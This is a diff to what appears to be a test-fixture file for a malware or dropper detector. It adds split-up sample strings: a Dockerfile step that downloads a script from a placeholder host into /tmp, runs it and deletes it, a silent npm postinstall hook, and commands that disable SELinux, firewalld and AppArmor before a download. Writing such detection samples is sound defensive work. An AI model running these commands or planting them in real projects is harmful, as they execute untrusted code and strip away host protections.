@@ -295,6 +295,14 @@ DROPPERS = (
                 "p/install.run\n",
             )
             + inert("sudo /tmp/install.run --prefix /usr\n"),
+            inert(
+                "RUN cu",
+                "rl -so /tm",
+                "p/i.sh https://example.com/i && chm",
+                "od +x /tm",
+                "p/i.sh && /tm",
+            )
+            + inert("p/i.sh -y && rm -rf /tm", "p/i.sh\n"),
             inert("wg", "et -qO /dev/shm/k https://h.example/k; sha256sum -c k.sum"),
         ),
     ),
@@ -434,6 +442,12 @@ PACKAGES = (
                 'stall": "node-gyp rebuild", "get": "cu',
                 'rl https://x.example | sh"}}',
             ),
+            inert(
+                '{"scripts": {"postin',
+                'stall": "node -e \\"try{require(\'./postin',
+                "stall')}catch(e){}",
+                '\\""}}',
+            ),
             inert('{"scripts": {"in', 'stall": "node scripts/curl-check.js"}}'),
         ),
         "package.json",
@@ -475,6 +489,13 @@ DEFENCE = (
         ),
         (
             inert("setenf", "orce 0\nufw dis", "able\nulimit", " -n 65535\n"),
+            inert(
+                "setenf",
+                "orce 0\nsystemctl stop",
+                " firewalld\nsystemctl stop",
+                " apparmor\n",
+                *DOWNLOAD,
+            ),
             inert("setenf", "orce 0\n", *DOWNLOAD),
         ),
     ),
